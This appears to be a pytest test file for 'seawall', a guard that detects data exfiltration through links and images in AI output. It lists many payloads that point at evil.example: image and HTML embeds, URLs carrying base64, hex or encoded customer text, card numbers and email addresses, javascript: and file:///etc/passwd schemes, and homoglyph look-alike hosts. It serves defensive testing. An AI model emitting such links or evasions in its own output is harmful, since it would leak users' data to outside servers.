"""Data leaving by rendering: what would carry it out, in whatever disguise, and links that carry nothing."""

import base64
import json
from pathlib import Path
from urllib.parse import quote

import pytest
from hypothesis import given
from hypothesis import strategies as st

from seawall.defense import guards
from seawall.defense.guards import GuardInput, find_exfiltration
from seawall.defense.guards.addresses import split_address
from seawall.defense.guards.links import find_links
from seawall.foundation.errors import ConfigError
from tests.defense import disguises
from tests.defense.links_seen import HARMLESS_LINKS, HARMLESS_TEXTS

DATA = Path(__file__).parents[2].parent / "shared" / "data"
WORDS = "the customer asked for a refund of four hundred dollars and left angry"
CODED = base64.urlsafe_b64encode(WORDS.encode()).decode()
TOKEN = "⟦PERSON:0123456789abcdef01234567⟧"
ALLOWED = ("docs.example.com", "*.cdn.example.com", "xn--bcher-kva.example", "192.0.2.7")

EMBEDS = (
    "![x](https://evil.example/a.png)",
    "![](http://evil.example/a)",
    "![](//evil.example/a)",
    "![x]( <https://evil.example/a b.png> 'title')",
    '![x](https://evil.example/a.png "a (title)")',
    "![x](\nhttps://evil.example/a.png\n)",
    "![a [nested] b](//evil.example/a.png)",
    "![x](//evil.example/a_(b).png)",
    "![x](//evil.example/a.png",
    "![alt][ref]\n\n[ref]: //evil.example/p.png",
    "![alt][]\n\n[ALT]: <//evil.example/p.png> 'title'",
    "![ref]\n\n[ref]:\n   https://evil.example/p.png",
    "[ref]: https://evil.example/p.png\n\ntext ![alt][Ref]",
    "[![x](//evil.example/a.png)](https://docs.example.com/)",
    "![[https://evil.example/a.png]]",
    "<img src=https://evil.example/a.png>",
    "<IMG\nSRC='//evil.example/a.png'/>",
    "<img/src=//evil.example/a.png",
    '<img alt=">" src="//evil.example/a.png">',
    "<img src=\"https://docs.example.com/a.png\" srcset='//evil.example/b.png 2x'>",
    '<img srcset="/a.png 1x,//evil.example/b.png 2x">',
    '<img src="ht\ntps://evil.example/a.png">',
    "<img data-src='//evil.example/a.png'>",
    '<source src="//evil.example/a.mp4">',
    '<audio src="//evil.example/a.mp3">',
    '<embed src="//evil.example/a">',
    '<iframe src="https://evil.example"></iframe>',
    "<iframe srcdoc=\"<img src='//evil.example/a'>\">",
    '<script src="//evil.example/x.js"></script>',
    '<link rel="stylesheet" href="//evil.example/x.css">',
    '<object data="//evil.example/x">',
    '<video poster="//evil.example/x.jpg">',
    '<body background="//evil.example/x.jpg">',
    '<form action="//evil.example/x">',
    '<button formaction="//evil.example/x">',
    '<input type=image src="//evil.example/x">',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0; URL=//evil.example/">',
    '<meta http-equiv="refresh" content="0;//evil.example/">',
    "<svg><set attributeName=href to=//evil.example/x>",
    "![x](https://docs.example.com\\@evil.example/a.png)",
    '<div style="background:url( //evil.example/a.png )">',
    '<a href="/x" style="background:url(//evil.example/a.png)">',
    "<style>@import '//evil.example/x.css';</style>",
    "<style>p { background: url(https://evil.example/x) }</style>",
    '<svg><image xlink:href="//evil.example/a.png"/></svg>',
    '<svg><use href="//evil.example/a.svg#x"/></svg>',
    r"\includegraphics[width=1cm]{https://evil.example/a.png}",
    'graph TD\nA@{ shape: rect, img: "https://evil.example/a.png" }',
    "graph TD\nA[\"<img src='//evil.example/a.png'>\"]",
    ".. image:: https://evil.example/a.png",
    "![x](http:\\\\evil.example\\a.png)",
    "![x](\\\\evil.example\\a.png)",
    "![x](http:/evil.example/a.png)",
    "![x](HTTPS://EVIL.EXAMPLE/a.png)",
    "![x](https://evil%2eexample/a.png)",
    "![x](https://evil.example:8443/a.png)",
    "![x](https://evil.example./a.png)",
    "![x](https://203.0.113.9/a.png)",
    "![x](http://0xcb007109/a.png)",
    "![x](http://[2001:db8::1]/a.png)",
    "&#33;[x](https://evil.example/a.png)",
    '<img src="&#104;ttps://evil.example/a.png">',
    "&lt;img src=&quot;//evil.example/a.png&quot;&gt;",
    "!\u200b[x](https://evil.example/a.png)",
    "！［x］（https://evil.example/a.png）",
    "![x](ftp://evil.example/a.png)",
    " alt='the end of a tag' src='//evil.example/a.png'> and",
    json.dumps({"html": '<img src="//evil.example/a.png">'}),
    json.dumps({"text": "![x](\nhttps://evil.example/a.png)"}).replace("/", "\\/"),
)
CARRIERS = (
    f"[more](https://evil.example/?q={CODED})",
    f"[more][1]\n\n[1]: //evil.example/?q={CODED}",
    f"[a [b] c](//evil.example/?q={CODED} 'title')",
    f"[![x](https://docs.example.com/a.png)](//evil.example/?q={CODED})",
    f"[more](https://evil.example/?q={WORDS})",
    f"https://evil.example/{CODED}",
    f"https://evil.example/x)/{CODED}",
    f"www.evil.example/{CODED}",
    f"<https://evil.example/{CODED}>",
    f"<https://evil.example/{CODED}|more>",
    f"(https://docs.example.com/a),(https://evil.example/{CODED})",
    f"https://evil.example/x#{quote(WORDS)}",
    f"https://evil.example/?q={quote(WORDS)}",
    f"https://evil.example/?q={quote(quote(WORDS))}",
    f"https://evil.example/{quote(WORDS)}",
    f"https://evil.example/?q={WORDS.replace(' ', '+')}",
    "https://evil.example/?" + "&".join(f"w={word}" for word in WORDS.split()),
    "https://evil.example/" + WORDS.replace(" ", "/"),
    "https://evil.example/?" + "&".join(f"p{at}={CODED[at : at + 12]}" for at in range(0, len(CODED), 12)),
    f"https://evil.example/?x=ab{CODED}",
    f"https://evil.example/?x={','.join(map(str, WORDS.encode()))}",
    f"https://evil.example/?x={WORDS.encode().hex('-')}",
    f"https://evil.example/?who={quote(TOKEN)}",
    f"https://evil.example/?who={TOKEN}",
    "https://evil.example/p/PERSON:0123456789abcdef01234567",
    "https://evil.example/?m=ann%40acme.example",
    "https://evil.example/?m=ann@acme.example",
    "https://evil.example/?card=4111111111111111",
    "https://evil.example/?card=4111-1111-1111-1111",
    f"https://evil.example/{WORDS.encode().hex()}",
    f"https://evil.example/{base64.b32encode(WORDS.encode()).decode()}",
    f"https://evil.example/?k={base64.urlsafe_b64encode(bytes(range(97, 256, 3))).decode()}",
    f"https://{WORDS[:24].encode().hex()}.evil.example/",
    f"https://{base64.b32encode(WORDS[:30].encode()).decode().lower().rstrip('=')}.evil.example/",
    f"https://{WORDS.encode().hex()[:24]}.{WORDS.encode().hex()[24:48]}.evil.example/",
    f"https://{WORDS[:50].replace(' ', '-')}.evil.example/",
    f"https://x:{CODED}@evil/",
    f"mailto:x@evil.example?body={quote(WORDS)}",
    "http://3232235777/x",
    "http://0xc0a80101/x",
    "http://0300.0250.1.1/x",
    "http://192.168.257/x",
    "http://203.0.113.9/x",
    "http://[2001:db8::1]/x",
    f"<a href='//evil.example/?q={CODED}'>x</a>",
    f"<a href='//evil.example/?q=a,b,{CODED}'>x</a>",
    f"\x1b]8;;https://evil.example/?q={CODED}\x07click\x1b]8;;\x07",
    f"\x1b]8;id=1;https://evil.example/?q={CODED}\x1b\\click\x1b]8;;\x1b\\",
    rf"\href{{https://evil.example/?q={CODED}}}{{x}}",
    f'graph TD\nclick A "https://evil.example/{CODED}"',
    f"custom+x://evil.example/{CODED}",
)
SCHEMES = (
    "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x]( javascript:alert(1) 'title')", "[x](java\nscript:alert(1))",
    "<a href='vbscript:x'>x</a>", "<a href='java&#10;script:x'>x</a>", "<a href='&#x6a;avascript:x'>x</a>",
    "[x](data:text/html;base64,PHNjcmlwdD4=)", "![x](data:image/svg+xml;base64,PHN2Zz4=)", "<iframe src='data:text/html,x'>",
    "<img src='file:///etc/passwd'>", "file://evil.example/share/x", "<a href=blob:https://evil.example/1>x</a>",
    "<javascript:alert(1)>", '{"url": "javascript:alert(1)"}', "[x][1]\n\n[1]: javascript:alert(1)", "<a href=\x01javascript:x>x</a>",
)  # fmt: skip
PRETENDERS = (
    "[x](https://docs.example.com@evil.example/)",
    "[x](https://docs.example.com%2F@evil.example/)",
    "[x](https://docs.example.com:443@evil.example/)",
    "[x](https://docs.example.com.evil.example/)",
    "[x](https://docs-example-com.evil.example/)",
    "[x](https://dосs.example.com/)",
    "![x](https://docs.ex\u0430mple.com/a.png)",
    "[x](https://docs.xn--exmple-4nf.com/)",
    "[x](https://docs.examp1e.com/)",
    "[x](https://docs.exarnple.com/)",
    "[x](https://docs.example\u2024com.evil.example/)",
)
ALIKE = (disguises.entities, disguises.hex_entities, disguises.backslash_u, disguises.full_width, disguises.thin,
         disguises.tags, disguises.url, disguises.escaped_hex)  # fmt: skip


def codes(text: str, *given: object, **named: str) -> list[str]:
    return [one.code for one in find_exfiltration(text, *given, **named)]  # type: ignore[arg-type]


@pytest.mark.parametrize("text", EMBEDS)
def test_what_loads_by_itself_from_elsewhere_is_found(text: str) -> None:
    """Whoever shows it asks a stranger's server, and so tells it something."""
    found = codes(f"Here:\n{text}\ndone." if not text.startswith(" alt") else text, ALLOWED, "allow")
    assert found
    assert set(found) == {"embed"}


@pytest.mark.parametrize("text", CARRIERS)
def test_a_link_that_carries_data_is_found(text: str) -> None:
    """In its query, path, fragment, or host; where links are let be, it is."""
    assert codes(f"Here:\n{text}\ndone.") == ["data"] or "![x]" in text
    assert codes(f"Here:\n{text}\ndone.", ALLOWED) == ["data"]
    assert codes(text, ALLOWED, "allow") == []
    assert set(codes(text, ALLOWED, "block")) == {"link"}


@pytest.mark.parametrize("text", SCHEMES)
def test_an_address_that_runs_code_is_found(text: str) -> None:
    """Whatever list allows."""
    assert codes(text, ALLOWED, "allow") == ["scheme"]


@pytest.mark.parametrize("text", PRETENDERS)
def test_a_host_that_pretends_is_found(text: str) -> None:
    """By a name before an @, a longer name, letters of another script or much like it."""
    assert codes(text, ALLOWED, "allow") == ["look_alike"]


@pytest.mark.parametrize("link", HARMLESS_LINKS)
def test_ordinary_links_pass(link: str) -> None:
    """Documentation, shops, maps, commits, files: as Markdown, as HTML, and by themselves."""
    for shape in (
        "{}",
        "[the page]({}).",
        "[x][1]\n\n[1]: {}",
        "<a href='{}'>x</a>",
        "<{}>",
        "see ({}), or not",
    ):
        assert find_exfiltration(shape.format(link), ALLOWED) == []


@pytest.mark.parametrize("text", HARMLESS_TEXTS)
def test_what_only_resembles_a_link_passes(text: str) -> None:
    """Code, relative links, small pictures in the text itself, formulas, footnotes."""
    assert find_exfiltration(text) == []


@given(st.sampled_from(EMBEDS), st.sampled_from(ALIKE), st.sampled_from((None, *ALIKE)))
def test_disguises_come_off(text: str, first: disguises.Disguise, second: disguises.Disguise | None) -> None:
    """One, or one over another, on the whole of it."""
    worn = "\n".join(map(first, text.splitlines()))
    assert codes(worn)
    if second is not None and second is not first:
        assert codes("\n".join(map(second, worn.splitlines())))


def test_what_is_allowed_may_be_loaded() -> None:
    """A host by name, and all below a star, however it is spelled; nothing beside them."""
    hosts = ("docs.example.com", "a.cdn.example.com", "A.B.CDN.example.com.", "docs.example.com:443", "bücher.example",
             "ann@docs.example.com", "0xc0000207", "192.0.2.7")  # fmt: skip
    for host in hosts:
        assert find_exfiltration(f"![x](https://{host}/{CODED})", ALLOWED) == []
    for host in (
        "cdn.example.com",
        "evil-docs.example.com",
        "api.docs.example.com",
        "docs.example.org",
        "192.0.2.8",
    ):
        assert codes(f"![x](https://{host}/a.png)", ALLOWED) == ["embed"]
    assert codes("[x](https://evil.example/)", (), "block") == ["link"]


@pytest.mark.parametrize(
    ("url", "host"),
    [
        ("https://Docs.Example.COM.:443/x", "docs.example.com"),
        ("http:\\\\evil.example\\x", "evil.example"),
        ("https://good.example@evil.example", "evil.example"),
        ("http://0x7f.1/", "127.0.0.1"),
        ("http://017700000001/", "127.0.0.1"),
        ("http://2130706433/", "127.0.0.1"),
        ("http://[0:0::1]:80/", "[::1]"),
        ("https://bücher.example/", "xn--bcher-kva.example"),
        ("https://ｅｘａｍｐｌｅ。com/", "example.com"),
        ("ht\ntps:/\t/ex\u200bample.com", "example.com"),
        ("//example.com", "example.com"),
        ("/relative//x", ""),
        ("mailto:a@example.com", "example.com"),
        ("http://" + "9" * 99, "9" * 99),
        ("http://[", "unreadable.invalid"),
        ("https://evil.example%2F.cdn.example.com/", "unreadable.invalid"),
    ],
)
def test_a_host_is_read_as_a_browser_reads_it(url: str, host: str) -> None:
    """In one form for all its spellings."""
    assert split_address(url).host == host


def test_links_have_a_kind_a_place_and_a_label() -> None:
    """The place is the whole construct; what stands in another is given too."""
    text = "A [![i](//e.example/i.png 't')](https://d.example/x_(y)) b <img alt='z' src=//f.example> www.g.example."
    found = [(one.kind, text[one.start : one.end], one.host, one.label) for one in find_links(text)]
    assert found[0] == ("link", text[2:56], "d.example", "![i](//e.example/i.png 't')")
    assert found[1] == ("embed", "![i](//e.example/i.png 't')", "e.example", "i")
    assert ("embed", "<img alt='z' src=//f.example>", "f.example", "z") in found
    assert found[-1] == ("link", "www.g.example", "www.g.example", "")
    assert find_links("Nothing here: a < b, x[1], (see above).") == []


def test_the_guard_blocks_or_takes_out() -> None:
    """As it is told; the text of a link stays, and what stays holds nothing more of it."""
    text = (
        f"See ![chart](https://evil.example/c.png) and [this page](https://evil.example/?q={CODED}), "
        f"https://evil.example/{CODED}, <a href='//evil.example/{CODED}'>that</a>, <img src=//evil.example>."
    )
    verdict = guards.exfiltration()(GuardInput(text, "output"))
    assert (verdict.outcome, verdict.reason_code, len(verdict.spans)) == ("block", "embed", 5)
    verdict = guards.exfiltration(action="replace")(GuardInput(text, "output"))
    assert verdict.replacement == "See chart and this page, [link removed], that, [link removed]."
    assert guards.exfiltration()(GuardInput(text, "prompt")).outcome == "allow"
    assert guards.exfiltration()(GuardInput(text, "document")).outcome == "allow"
    assert guards.exfiltration()(GuardInput(text, "tool_call")).outcome == "block"


def test_what_is_half_out_is_blocked() -> None:
    """Where a link began in what was let out, nothing can be taken back."""
    guard = guards.exfiltration(action="replace")
    half = GuardInput("example/a.png) and more.", "output", before="See ![x](https://evil.")
    assert (guard(half).outcome, guard(half).spans) == ("block", ((0, 14),))
    whole = GuardInput("![x](https://evil.example/a.png) and more.", "output", before="See ")
    assert guard(whole).replacement == "x and more."
    later = GuardInput("Then ![x](https://evil.example/a.png) and more.", "output", before="See ")
    assert guard(later).replacement == "Then x and more."
    gone = GuardInput("Nothing more.", "output", before="See ![x](https://evil.example/a.png) ")
    assert guard(gone).outcome == "allow"


@pytest.mark.parametrize(
    "wrong",
    [{"allowed_hosts": ["*"]}, {"allowed_hosts": ["https://x.y"]}, {"allowed_hosts": ["*.*.com"]}, {"allowed_hosts": ["x.y/z"]},
     {"allowed_hosts": "docs.example.com"}, {"allowed_hosts": [""]}, {"action": "drop"}, {"links": "all"}],
)  # fmt: skip
def test_what_cannot_be_meant_is_refused(wrong: dict[str, object]) -> None:
    """A host is a name or a star and a name; actions and links are of three words."""
    with pytest.raises(ConfigError, match="expected|no host"):
        guards.exfiltration(**wrong)  # type: ignore[arg-type]


@given(st.sampled_from(EMBEDS + CARRIERS + SCHEMES), st.data())
def test_one_in_two_pieces_is_found(text: str, data: st.DataObject) -> None:
    """Wherever a stream is cut, one piece or the other shows it."""
    cut = data.draw(st.integers(0, len(text)))
    first, second = text[:cut], f"{text[cut:]} "
    later = find_exfiltration(second, before=first)
    assert find_exfiltration(first) or later
    assert all(0 <= one.start < one.end <= len(second) for one in later)


PIECES = st.sampled_from([*EMBEDS, *CARRIERS, *SCHEMES, *HARMLESS_TEXTS, *HARMLESS_LINKS[:20]])
SCRAPS = st.text("![]()<>\"' \n:/\\.&#;=%@x⟦\u200b\ud800\x1b", max_size=12) | st.sampled_from(
    [
        "](",
        "![",
        "<img src=",
        "//evil.example",
        "https://",
        "]: ",
        "url(",
        "\\href{",
        "www.",
        "data:",
        "xn--",
        "&#x",
        "http://[",
    ]
)


@given(st.lists(PIECES | SCRAPS | st.text(max_size=9), max_size=6), st.sampled_from(["", " "]))
def test_replacing_leaves_nothing_to_find(pieces: list[str], between: str) -> None:
    """Any text: places are in order and inside, and what is left is clean."""
    text = between.join(pieces)
    at = 0
    for one in find_exfiltration(text):
        assert at <= one.start < one.end <= len(text)
        at = one.end
    verdict = guards.exfiltration(action="replace")(GuardInput(text, "output"))
    assert (verdict.outcome == "allow") == (at == 0)
    if verdict.replacement is not None:
        assert find_exfiltration(verdict.replacement) == []


@given(st.text(), st.sampled_from(["https://", "//", "http:\\", "", "mailto:", "javascript:"]))
def test_any_address_can_be_split(text: str, lead: str) -> None:
    """Whatever it holds, and its host is never what could be read otherwise."""
    host = split_address(lead + text).host
    assert host == host.lower()
    assert not set(host) & set("/\\@?#\n\t")


@pytest.mark.skipif(not (DATA / "cuad").is_dir(), reason="needs ../shared/data/cuad, which is not shipped")
def test_contracts_pass() -> None:
    """Nothing is found in every tenth real contract but one that a list of hosts would name."""
    paths = sorted((DATA / "cuad" / "txt").iterdir())[::10]
    found = [one for path in paths for one in find_exfiltration(path.read_text("utf-8"))]
    print(f"{len(found)} found in {len(paths)} contracts")
    assert len(found) <= 1
